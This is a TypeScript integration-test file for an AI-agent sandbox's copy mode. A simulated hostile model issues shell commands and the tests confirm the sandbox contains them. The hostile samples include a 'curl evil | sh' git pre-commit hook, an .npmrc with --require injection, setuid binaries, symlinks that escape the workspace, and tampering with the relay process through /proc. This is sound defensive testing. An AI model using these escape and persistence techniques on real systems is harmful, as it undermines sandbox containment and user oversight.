// Copy mode end to end, with the real engine, image and Pi: the workspace is copied into a tmpfs,
// the gateway is reached through the relay, and what comes back is checked before it is applied.
// (The security suites also run whole in copy mode: the "integration-copy" project.)
import { spawn, spawnSync } from "node:child_process";
import fs from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { runDirsParent } from "../../src/run/run-dirs.js";
import type { RunPlan } from "../../src/sandbox-contract.js";
import { builtCli, containersOfRuns, docker, expectStoppedByItselfOrReaped } from "../support/harness.js";
import {
  bash,
  describeOutcome,
  fingerprint,
  finish,
  hostilePolicy,
  hostileWorkspace,
  runHostile,
  spawnController,
  treeSnapshot,
  useHostileModelServer,
} from "../support/hostile-model.js";

const server = useHostileModelServer();
const copy = { workspaceMode: "copy" as const };

const stagingLeftNextTo = (ws: string) =>
  fs.readdirSync(path.dirname(ws)).filter((name) => name.startsWith(`.sandbox-run-staging-${path.basename(ws)}-`));

describe.concurrent("copy mode", () => {
  it("a schema run: no host path is mounted, Pi reaches the model through the relay, the host gets exactly the changes", async () => {
    const ws = hostileWorkspace({
      "a.txt": "a\n",
      "b.txt": "b\n",
      "dir/c.txt": "c\n",
      "keep.txt": "untouched\n",
      "run.sh": "#!/bin/sh\necho script-ran\n",
    });
    fs.chmodSync(path.join(ws, "run.sh"), 0o755);
    fs.symlinkSync("keep.txt", path.join(ws, "link"));
    const keepIno = fs.statSync(path.join(ws, "keep.txt")).ino;
    let plan: RunPlan | undefined;
    const outcome = await runHostile(
      server,
      [
        bash(
          [
            'grep " $PWD " /proc/mounts | cut -d" " -f3',
            "./run.sh",
            "echo changed > a.txt && rm b.txt && mkdir -p new && echo d > new/d.txt && chmod 600 dir/c.txt",
          ].join("\n"),
        ),
        finish(),
      ],
      { cwd: ws, ...copy, onPlan: (p) => (plan = p) },
    );
    expect(outcome.details, describeOutcome(outcome)).toBeDefined();
    expect(plan?.workspaceMode).toBe("copy");
    expect(plan?.mounts).toEqual([]);
    // Inside: a tmpfs at the workspace's own path, and its scripts run as from a bind mount.
    expect(outcome.toolResults[0]).toMatch(/^tmpfs\nscript-ran\n/);
    expect(outcome.details?.changedFiles).toEqual({
      created: ["new/d.txt"],
      modified: ["a.txt", "dir/c.txt"],
      deleted: ["b.txt"],
    });
    expect(treeSnapshot(ws)).toEqual({
      ".": expect.stringMatching(/^dir:0:0:/),
      "a.txt": "file:0:0:644:changed\n",
      dir: "dir:0:0:755",
      "dir/c.txt": "file:0:0:600:c\n",
      "keep.txt": "file:0:0:644:untouched\n",
      link: "link:keep.txt",
      new: "dir:0:0:755",
      "new/d.txt": "file:0:0:644:d\n",
      "run.sh": "file:0:0:755:#!/bin/sh\necho script-ran\n",
    });
    expect(fs.statSync(path.join(ws, "keep.txt")).ino).toBe(keepIno);
    const types = outcome.events.filter((e) => e.source === "sandbox").map((e) => e.type);
    expect(types).toEqual(
      expect.arrayContaining(["workspace.copied-in", "workspace.copied-out", "workspace.applied", "gateway.request"]),
    );
    expect(stagingLeftNextTo(ws)).toEqual([]);
    expect(await containersOfRuns([outcome.runId])).toEqual([]);
  });

  it("an extra writable directory travels like the workspace: copied in, changes checked and applied, reported with its absolute path", async () => {
    const ws = hostileWorkspace({ "a.txt": "a\n" });
    const extra = hostileWorkspace({ "cache.txt": "old\n" }, "sandbox-run-extra-");
    const outcome = await runHostile(
      server,
      [
        bash(`cat ${extra}/cache.txt && echo new > ${extra}/cache.txt && echo b > b.txt && touch ${extra}/more.txt`),
        finish(),
      ],
      { cwd: ws, additionalWritableDirectories: [extra], ...copy },
    );
    expect(outcome.details, describeOutcome(outcome)).toBeDefined();
    expect(outcome.toolResults[0]).toBe("old\n");
    expect(outcome.details?.changedFiles).toEqual({
      created: ["b.txt", `${extra}/more.txt`],
      modified: [`${extra}/cache.txt`],
      deleted: [],
    });
    expect(fs.readFileSync(path.join(extra, "cache.txt"), "utf8")).toBe("new\n");
    expect(fs.readFileSync(path.join(extra, "more.txt"), "utf8")).toBe("");
    expect(fs.readFileSync(path.join(ws, "b.txt"), "utf8")).toBe("b\n");
    expect(stagingLeftNextTo(extra)).toEqual([]);
  });

  it("the trees copied in get memory of their own beside the policy's: their tmpfs is counted by the memory cgroup (review, session 31)", async () => {
    const ws = hostileWorkspace({ "a.txt": "a\n" });
    fs.writeFileSync(path.join(ws, "big.bin"), Buffer.alloc(5 * 1024 * 1024 + 1, 7));
    const memory: Array<Promise<number>> = [];
    const policy = hostilePolicy({ limits: { memoryMb: 300 } });
    const outcome = await runHostile(server, [bash("du -m big.bin | cut -f1"), finish()], {
      cwd: ws,
      policy,
      ...copy,
      onEvent: (event) => {
        if (event.type === "container.created")
          memory.push(
            docker
              .getContainer(String(event.data.containerId))
              .inspect()
              .then((i) => i.HostConfig.Memory ?? 0),
          );
      },
    });
    expect(outcome.details, describeOutcome(outcome)).toBeDefined();
    expect(outcome.toolResults[0]).toMatch(/^6\n/);
    // 300 MiB for the task, 6 MiB (the tree's 5 MiB and a byte, rounded up) for the copy.
    expect(await Promise.all(memory)).toEqual([306 * 1024 * 1024]);
  });

  it("what the sandbox leaves comes back only as plain files, directories and symlinks: no FIFO, no setuid, links never followed", async () => {
    const outside = hostileWorkspace({ "victim.txt": "victim\n" }, "sandbox-run-outside-");
    const before = treeSnapshot(outside);
    // The user's file whose real name holds U+FFFD, beside names the sandbox makes that are not
    // UTF-8 (a tool's cache, a fixture folder): those are left out and named, the rest applied
    // (before: the relay failed the whole copy-out on them, and a U+FFFD name read as deleted).
    const ws = hostileWorkspace({ "a.txt": "a\n", "notes_\uFFFD.txt": "the user's\n" });
    const outcome = await runHostile(
      server,
      [
        bash(
          [
            "printf x > $'cache_\\xe9.tmp' && mkdir $'fixtures_\\xff' && echo y > $'fixtures_\\xff/inner'",
            "mkfifo fifo",
            "cp /bin/sh suid-sh && chmod 6755 suid-sh",
            `ln -s ${outside}/victim.txt to-victim && ln -s ${outside} to-outside`,
            "ln a.txt hard-link",
            "stat -c '%a %h %n' suid-sh a.txt",
          ].join("\n"),
        ),
        finish(),
      ],
      { cwd: ws, ...copy },
    );
    expect(outcome.details, describeOutcome(outcome)).toBeDefined();
    expect(outcome.toolResults[0]).toContain("6755 1 suid-sh\n644 2 a.txt");
    const copiedOut = outcome.events.find((e) => e.type === "workspace.copied-out")?.data;
    expect(copiedOut?.refused).toEqual([
      { path: "cache_\uDCE9.tmp", reason: "its name is not valid UTF-8" },
      { path: "fixtures_\uDCFF", reason: "its name is not valid UTF-8" },
      { path: "fifo", reason: "it is a fifo" },
    ]);
    expect(outcome.details?.changedFiles.deleted).toEqual([]);
    expect(fs.readFileSync(path.join(ws, "notes_\uFFFD.txt"), "utf8")).toBe("the user's\n");
    expect(fs.readdirSync(ws).filter((n) => n.includes("\uFFFD"))).toEqual(["notes_\uFFFD.txt"]);
    expect(copiedOut?.setuidDropped).toEqual(["suid-sh"]);
    expect(fs.existsSync(path.join(ws, "fifo"))).toBe(false);
    expect((fs.statSync(path.join(ws, "suid-sh")).mode & 0o7777).toString(8)).toBe("755");
    expect(fs.readlinkSync(path.join(ws, "to-victim"))).toBe(`${outside}/victim.txt`);
    expect(fs.readlinkSync(path.join(ws, "to-outside"))).toBe(outside);
    // A hard link in the sandbox arrives as a file of its own.
    expect(fs.statSync(path.join(ws, "hard-link")).nlink).toBe(1);
    expect(fs.readFileSync(path.join(ws, "hard-link"), "utf8")).toBe("a\n");
    expect(treeSnapshot(outside)).toEqual(before);
  });

  it("a read-only workspace: readable (even 0600 files) but not writable, chmod-able, renamable or removable; the host is untouched", async () => {
    const ws = hostileWorkspace({ "secret.txt": "only for the owner\n", "dir/x.txt": "x\n" });
    fs.chmodSync(path.join(ws, "secret.txt"), 0o600);
    const before = fingerprint(ws);
    const policy = hostilePolicy({ workspace: "read-only", tools: ["read", "bash", "grep", "find", "ls"] });
    const outcome = await runHostile(
      server,
      [
        bash(
          [
            "cat secret.txt",
            'echo x > new.txt; echo "create rc=$?"',
            'echo y >> secret.txt; echo "append rc=$?"',
            'chmod 666 secret.txt; echo "chmod rc=$?"',
            'mv dir dir2; echo "rename rc=$?"',
            'rm -f dir/x.txt; echo "remove rc=$?"',
            'echo "owner=$(stat -c %u .) me=$(id -u)"',
          ].join("\n"),
        ),
        finish(),
      ],
      { cwd: ws, policy, ...copy },
    );
    expect(outcome.details, describeOutcome(outcome)).toBeDefined();
    const printed = outcome.toolResults[0] ?? "";
    expect(printed).toMatch(/^only for the owner\n/);
    for (const op of ["create", "append", "chmod", "rename", "remove"])
      expect(printed).toMatch(new RegExp(`${op} rc=[1-9]`));
    expect(printed).toMatch(/owner=65533 me=65532/);
    expect(outcome.events.some((e) => e.type === "workspace.copied-out")).toBe(false);
    expect(fingerprint(ws)).toEqual(before);
  });

  it("a protected-path violation leaves the host workspace byte for byte as it was (the changes were checked before they landed)", async () => {
    const ws = hostileWorkspace({
      ".git/hooks/pre-commit.sample": "#!/bin/sh\n",
      ".github/workflows/ci.yml": "on: push\n",
      "src/a.ts": "export const a = 1;\n",
      "b.txt": "b\n",
    });
    const before = fingerprint(ws);
    const policy = hostilePolicy({ protectedPaths: [".git/hooks/**", ".github/workflows/**"] });
    const outcome = await runHostile(
      server,
      [
        bash(
          [
            "echo 'export const a = 2;' > src/a.ts && rm b.txt && mkdir -p new && echo n > new/n.txt",
            "echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
            "echo 'on: push' > .github/workflows/evil.yml; echo rc=$?",
          ].join("\n"),
        ),
        finish(),
      ],
      { cwd: ws, policy, ...copy },
    );
    expect(outcome.error?.code, describeOutcome(outcome)).toBe("policy-violation");
    // Named once, with the built-in rule that refuses it too (session 33: listed twice before).
    expect(outcome.error?.message).toMatch(/\.git\/hooks\/pre-commit \(created, git-metadata\)/);
    expect(outcome.error?.message.split(".git/hooks/pre-commit")).toHaveLength(2);
    expect(outcome.error?.message).toMatch(/none of the run's changes were applied/);
    // Inside, the sandbox could write them (no read-only mounts in copy mode) ...
    expect(outcome.toolResults[0]).toContain("rc=0");
    // ... and not one byte, mode, inode or time of the host workspace changed.
    expect(fingerprint(ws)).toEqual(before);
    expect(stagingLeftNextTo(ws)).toEqual([]);
    expect(outcome.events.some((e) => e.type === "workspace.not-applied")).toBe(true);
  });

  it("an apply that fails half way (a file made immutable on the host, written last) is undone: the host workspace is byte for byte as it was", async () => {
    expect(process.geteuid?.(), "chattr needs root (the integration tests run as root here and on CI)").toBe(0);
    const ws = hostileWorkspace({
      "a.txt": "a\n",
      "b.txt": "b\n",
      "gone/x.txt": "x\n",
      "dir/keep.txt": "keep\n",
      "z-locked.txt": "locked\n",
    });
    const locked = path.join(ws, "z-locked.txt");
    const chattr = spawnSync("chattr", ["+i", locked]);
    expect(chattr.status, `chattr +i in the host's temp folder: ${chattr.stderr}`).toBe(0);
    try {
      const before = exactly(ws);
      const outcome = await runHostile(
        server,
        [
          bash(
            [
              "echo changed > a.txt && rm b.txt && rm -r gone && mkdir new && echo n > new/n.txt",
              "chmod 700 dir && echo 'changed too' > z-locked.txt && echo rc=$?",
            ].join("\n"),
          ),
          finish(),
        ],
        { cwd: ws, ...copy },
      );
      // Not one entry deleted, replaced or added, and every inode, mode and content as it was.
      expect(exactly(ws)).toEqual(before);
      expect(outcome.toolResults[0]).toContain("rc=0");
      // The run ran; the host could not take its work: not a usage error (review, session 31).
      expect(outcome.error?.code, describeOutcome(outcome)).toBe("not-applied");
      expect(outcome.error?.message).toMatch(
        /could not be applied \(EPERM.*z-locked\.txt.*\); every change made so far was undone\. Nothing was changed\./,
      );
      expect(outcome.error?.runId).toBe(outcome.runId);
      const notApplied = outcome.events.find((e) => e.type === "workspace.not-applied");
      expect(notApplied?.data.reason).toMatch(/could not be applied \(EPERM/);
      expect(stagingLeftNextTo(ws)).toEqual([]);
      expect(fs.readdirSync(path.dirname(ws)).filter((n) => n.startsWith(`.sandbox-run-kept-`))).toEqual([]);
    } finally {
      spawnSync("chattr", ["-i", locked]);
    }
  });

  it("the user's own edit during the run refuses the apply: code not-applied (exit 1, not a usage error) with the run's id, image and policy, and a workspace.not-applied event (review, session 31)", async () => {
    const ws = hostileWorkspace({ "a.txt": "a\n", "b.txt": "b\n" });
    const steps = [bash("echo from-sandbox > a.txt && echo rc=$?"), finish()];
    const outcome = await runHostile(
      server,
      (_request, turn) => {
        // The sandbox has changed a.txt; the user edits it on the host before the run ends.
        if (turn === 1) fs.writeFileSync(path.join(ws, "a.txt"), "the user's edit\n");
        return steps[turn] ?? { text: "Done." };
      },
      { cwd: ws, ...copy },
    );
    expect(outcome.toolResults[0]).toContain("rc=0");
    expect(outcome.error?.code, describeOutcome(outcome)).toBe("not-applied");
    expect(outcome.error?.message).toMatch(/a\.txt \(changed on the host\)/);
    expect(outcome.error).toMatchObject({
      runId: outcome.runId,
      image: expect.any(String),
      policy: expect.any(String),
      piVersion: expect.any(String),
      containerId: expect.any(String),
    });
    expect(fs.readFileSync(path.join(ws, "a.txt"), "utf8")).toBe("the user's edit\n");
    expect(fs.readFileSync(path.join(ws, "b.txt"), "utf8")).toBe("b\n");
    const notApplied = outcome.events.find((e) => e.type === "workspace.not-applied");
    expect(notApplied?.data.reason).toMatch(/a\.txt \(changed on the host\)/);
    expect(stagingLeftNextTo(ws)).toEqual([]);
  });

  it("130,000 new files in one folder (a large npm install's worth) come back and are applied, the changed files listed up to the cap, and a host-run file behind them is still reported", async () => {
    const ws = hostileWorkspace({ "a.txt": "a\n" });
    const outcome = await runHostile(
      server,
      [
        bash(
          `mkdir many && cd many && perl -e 'for (1..130000) { open(my $f, ">", "f$_") or die $! }' && cd .. && mkdir zz && echo 'node-options=--require=./x.js' > zz/.npmrc && echo made`,
        ),
        finish(),
      ],
      { cwd: ws, ...copy },
    );
    // Before: "Maximum call stack size exceeded" (an internal error), nothing applied.
    expect(outcome.details, describeOutcome(outcome)).toBeDefined();
    expect(fs.readdirSync(path.join(ws, "many"))).toHaveLength(130_000);
    const changed = outcome.details!.changedFiles;
    expect(changed.created).toHaveLength(10_000);
    expect(changed.truncated).toEqual({ created: 130_001, modified: 0, deleted: 0 });
    // Judged from the full lists, not the listed ones (the .npmrc sorts after the 10,000 listed).
    expect(changed.created).not.toContain("zz/.npmrc");
    expect(outcome.details!.hostRunFiles).toEqual([{ path: "zz/.npmrc", change: "created", why: expect.any(String) }]);
  });

  it("a file the sandbox made unreadable fails the copy-out; nothing is applied", async () => {
    const ws = hostileWorkspace({ "a.txt": "a\n" });
    const before = fingerprint(ws);
    const outcome = await runHostile(
      server,
      [bash("echo changed > a.txt && echo secret > locked.txt && chmod 000 locked.txt"), finish()],
      { cwd: ws, ...copy },
    );
    expect(outcome.error?.code, describeOutcome(outcome)).toBe("agent-crashed");
    expect(outcome.error?.message).toMatch(
      /Reading the workspace .* back from the sandbox failed: the relay could not read all of it \(status 2\)/,
    );
    expect(outcome.error?.stderrTail).toMatch(/locked\.txt: Cannot open: Permission denied/);
    expect(fingerprint(ws)).toEqual(before);
  });

  it("garbage written into the relay's link to the controller by code in the sandbox: the run fails cleanly and nothing is left", async () => {
    const ws = hostileWorkspace({ "a.txt": "a\n" });
    const before = fingerprint(ws);
    const outcome = await runHostile(
      server,
      [
        bash(
          [
            // The exec that carries the relay's session (a perl bridge) runs as the sandbox's uid too:
            // its stdout goes straight to the controller.
            "for p in /proc/[0-9]*; do tr '\\0' ' ' < $p/cmdline 2>/dev/null | grep -q '^/usr/bin/perl -e' && relay=${p#/proc/}; done",
            'echo "relay=$relay"',
            // A frame header claiming 16 MiB (past the session's frame size) first: random bytes alone
            // can read as a header whose payload is still to come (about 1 in 20), and the
            // controller then waits for it, up to the run's timeout.
            "{ printf '\\377\\377\\377\\376\\0\\0\\0\\0\\1'; head -c 200000 /dev/urandom; } > /proc/$relay/fd/1; echo wrote",
          ].join("\n"),
        ),
        bash("echo still-here"),
        finish(),
      ],
      { cwd: ws, ...copy, timeoutMs: 60_000 },
    );
    // (The tool's output never reached the model: the next request went through the broken relay.)
    expect(outcome.error, describeOutcome(outcome)).toBeDefined();
    // The controller dropped the session on the first frame it could not read and stopped the
    // sandbox (or the relay, then the launcher, stopped first): the run fails at once (not at its
    // timeout), naming the lost connection.
    expect(outcome.error?.code).toBe("agent-crashed");
    expect(outcome.error?.message).toMatch(
      /lost its connection to the host controller|The sandbox's relay to the host stopped: this side could not read/,
    );
    // This side named the garbage itself, before the container's exit (not when the exec ended).
    const types = outcome.events.map((e) => e.type);
    const stopped = outcome.events.find((e) => e.type === "relay.stopped");
    expect(String(stopped?.data?.reason), describeOutcome(outcome)).toMatch(/could not read what the relay sent/);
    expect(types.indexOf("relay.stopped")).toBeLessThan(types.indexOf("container.exited"));
    expect(fingerprint(ws)).toEqual(before);
    expect(await containersOfRuns([outcome.runId])).toEqual([]);
  });
});

describe("copy mode's relay, taken over by code in the sandbox (review, session 36)", () => {
  it("a relay whose bridge is stopped and whose stdout is then flooded: the run is stopped at once, not at its timeout, and nothing is left", async () => {
    const ws = hostileWorkspace({ "a.txt": "a\n" });
    const before = fingerprint(ws);
    const outcome = await runHostile(
      server,
      [
        bash(
          [
            "pids=''; for p in /proc/[0-9]*; do tr '\\0' ' ' < $p/cmdline 2>/dev/null | grep -q '^/usr/bin/perl -e' && { relay=${p#/proc/}; pids=\"$pids $relay\"; }; done",
            // Stopped, the bridges never pass the host's GOAWAY on: the launcher does not end itself.
            "kill -STOP $pids",
            "head -c 300M /dev/zero > /proc/$relay/fd/1 &",
            "sleep 600",
          ].join("\n"),
        ),
        finish(),
      ],
      { cwd: ws, ...copy, timeoutMs: 60_000 },
    );
    // The host refused what the relay sent and stopped the sandbox: before, the run went on to its
    // timeout while the controller kept what the exec delivered (65 MB a second).
    const said = outcome.events.filter((e) => e.source === "sandbox").map((e) => `${e.time} ${e.type}`);
    expect(outcome.error?.code, `${describeOutcome(outcome)}\n${said.join("\n")}`).toBe("agent-crashed");
    expect(outcome.error?.message).toMatch(/The sandbox's relay to the host stopped: this side could not read/);
    expect(fingerprint(ws)).toEqual(before);
    expect(await containersOfRuns([outcome.runId])).toEqual([]);
  });
});

describe("copy mode and the controller's life", () => {
  it("10 GB of sparse files in the sandbox fail the run naming the disk limit, with the controller's memory bounded", async () => {
    const ws = hostileWorkspace({ "a.txt": "a\n" });
    const before = fingerprint(ws);
    // One file may not pass the disk limit (RLIMIT_FSIZE, 256 MiB here); fifty sparse ones under it
    // cost the tmpfs nothing and add up to 10 GB of apparent size.
    const sparse = "for i in $(seq 1 50); do truncate -s 200M sparse$i || exit 1; done; ls -ls sparse1";
    const controller = spawnController(server, [bash(sparse), finish()], {
      cwd: ws,
      workspaceMode: "copy",
      timeoutMs: 110_000,
    });
    const done = await controller.done;
    expect(done.error?.code, `${done.error?.message}\n${controller.stderr()}`).toBe("limit");
    expect(done.error?.limit).toBe("disk");
    expect(done.error?.message).toMatch(/with more than \d+ MiB/);
    expect(done.maxRssMb, `peaks in MB: ${JSON.stringify(done.memoryPeakMb)}`).toBeLessThan(200);
    expect(fingerprint(ws)).toEqual(before);
    expect(stagingLeftNextTo(ws)).toEqual([]);
  });

  it("a controller SIGKILLed while it reads the workspace back: the sandbox stops, and `gc` leaves nothing (container, run folder, staging)", async () => {
    const tmpdir = hostileWorkspace({}, "sandbox-run-tmpdir-");
    const ws = hostileWorkspace({ "a.txt": "a\n" });
    const before = fingerprint(ws);
    const controller = spawnController(
      server,
      // Enough to take a while to copy back, and under the 256 MiB disk limit: a full copy would
      // end the run as a disk trip (the relay's statfs watch) before the copy out begins.
      [bash("head -c 200M /dev/urandom > big.bin"), finish()],
      { cwd: ws, workspaceMode: "copy", reportEvents: ["container.started", "workspace.copying-out"] },
      { env: { ...process.env, TMPDIR: tmpdir } },
    );
    const started = await controller.event("container.started");
    const exit = docker.getContainer(String(started.data.containerId)).wait() as Promise<{ StatusCode: number }>;
    await controller.event("workspace.copying-out");
    expect(stagingLeftNextTo(ws)).toHaveLength(1);
    controller.child.kill("SIGKILL");
    await controller.exited;
    const died = Date.now();
    // The relay saw its stdin end and exited; the launcher's liveness connection broke with it (or a
    // reaper got there first).
    await expectStoppedByItselfOrReaped(String(started.data.containerId), (await exit).StatusCode, died);
    const gc = await new Promise<{ code: number | null; stderr: string }>((resolve) => {
      const child = spawn(process.execPath, [builtCli, "gc"], {
        env: { ...process.env, TMPDIR: tmpdir },
        stdio: ["ignore", "ignore", "pipe"],
      });
      let stderr = "";
      child.stderr.on("data", (c: Buffer) => (stderr += c.toString()));
      child.on("close", (code) => resolve({ code, stderr }));
    });
    expect(gc.code, gc.stderr).toBe(0);
    expect(await containersOfRuns([started.runId])).toEqual([]);
    const parent = runDirsParent(tmpdir);
    expect(fs.existsSync(parent) ? fs.readdirSync(parent) : []).toEqual([]);
    expect(stagingLeftNextTo(ws)).toEqual([]);
    expect(fingerprint(ws)).toEqual(before);
  });
});

/**
 * Every entry with its kind, owner, mode, size, inode and content, and a file's mtime: what an
 * apply that was undone must leave as it was. (Renames move ctimes, and a directory's mtime is put
 * back only as precisely as Node sets times; fingerprint() checks those where nothing was touched.)
 */
function exactly(dir: string): Record<string, string> {
  const out: Record<string, string> = {};
  const walk = (rel: string) => {
    const file = path.join(dir, rel);
    const st = fs.lstatSync(file);
    const facts = `${st.uid}:${st.gid}:${(st.mode & 0o7777).toString(8)}:${st.size}:${st.ino}`;
    if (st.isDirectory()) {
      out[rel || "."] = `dir:${facts}`;
      for (const name of fs.readdirSync(file).sort()) walk(rel ? `${rel}/${name}` : name);
    } else if (st.isSymbolicLink()) out[rel] = `link:${facts}:${fs.readlinkSync(file)}`;
    else out[rel] = `file:${facts}:${st.mtimeMs}:${fs.readFileSync(file, "base64")}`;
  };
  walk("");
  return out;
}
